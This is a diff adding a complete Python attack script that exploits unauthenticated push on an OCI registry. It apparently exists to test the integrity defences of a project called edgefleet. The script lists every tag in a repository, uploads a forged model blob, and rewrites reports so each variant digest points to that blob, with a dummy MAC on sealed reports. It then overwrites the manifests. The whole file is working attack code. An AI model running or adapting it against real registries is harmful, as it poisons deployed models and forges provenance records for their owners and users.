@@ -1,0 +1,78 @@
+"""Run inside a pod on the real node, with no Kubernetes rights and no registry credentials: overwrite every tag
+of an edgefleet repository the way an unauthenticated push can. A report (JSON, sealed or not) is replaced by one
+naming a forged digest; any other layer (a variant) by forged bytes. Standard library only. Prints a JSON summary.
+
+Usage: python attacker_push.py REGISTRY REPOSITORY"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import sys
+import urllib.request
+
+MANIFEST = "application/vnd.oci.image.manifest.v1+json"
+FORGED_MODEL = b"forged model: always answers 7\n" * 64
+TIMEOUT = 10
+
+
+def _call(url: str, method: str = "GET", data: bytes | None = None, headers: dict | None = None):
+    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
+    return urllib.request.urlopen(req, timeout=TIMEOUT)
+
+
+def _push_blob(base: str, registry: str, data: bytes) -> str:
+    digest = "sha256:" + hashlib.sha256(data).hexdigest()
+    with _call(f"{base}/blobs/uploads/", "POST") as resp:
+        location = resp.headers["Location"]
+    location = location if location.startswith("http") else f"http://{registry}{location}"
+    joiner = "&" if "?" in location else "?"
+    _call(f"{location}{joiner}digest={digest}", "PUT", data, {"Content-Type": "application/octet-stream"}).close()
+    return digest
+
+
+def _forged_report(original: bytes, forged_digest: str) -> bytes | None:
+    """The report with every variant's digest replaced; None when ``original`` is not a report."""
+    try:
+        doc = json.loads(original)
+    except ValueError:
+        return None
+    sealed = isinstance(doc, dict) and doc.get("kind") == "SealedReport"
+    report = json.loads(doc["report"]) if sealed else doc
+    if not isinstance(report, dict):
+        return None
+    for entry in report.get("variants", []) + report.get("candidates", []):
+        if isinstance(entry, dict) and "digest" in entry:
+            entry["digest"] = forged_digest
+    if sealed:  # the envelope kept, the MAC guessed
+        return json.dumps({**doc, "report": json.dumps(report), "mac": "0" * 64}).encode()
+    return json.dumps(report).encode()
+
+
+def main(registry: str, repository: str) -> dict:
+    base = f"http://{registry}/v2/{repository}"
+    with _call(f"{base}/tags/list") as resp:
+        tags = json.load(resp).get("tags") or []
+    forged_digest = _push_blob(base, registry, FORGED_MODEL)
+    done = {"reports": [], "variants": [], "forgedDigest": forged_digest}
+    for tag in tags:
+        with _call(f"{base}/manifests/{tag}", headers={"Accept": MANIFEST}) as resp:
+            manifest = json.load(resp)
+        if len(manifest.get("layers", [])) != 1:
+            continue
+        layer = manifest["layers"][0]
+        with _call(f"{base}/blobs/{layer['digest']}") as resp:
+            original = resp.read(64 << 20)
+        forged = _forged_report(original, forged_digest) if len(original) < (1 << 20) else None
+        kind = "reports" if forged is not None else "variants"
+        data = forged if forged is not None else FORGED_MODEL
+        layer.update(digest=_push_blob(base, registry, data), size=len(data))
+        manifest.setdefault("annotations", {})["io.edgefleet.digest"] = forged_digest
+        body = json.dumps(manifest).encode()
+        _call(f"{base}/manifests/{tag}", "PUT", body, {"Content-Type": MANIFEST}).close()
+        done[kind].append(tag)
+    return done
+
+
+if __name__ == "__main__":
+    print(json.dumps(main(sys.argv[1], sys.argv[2])))
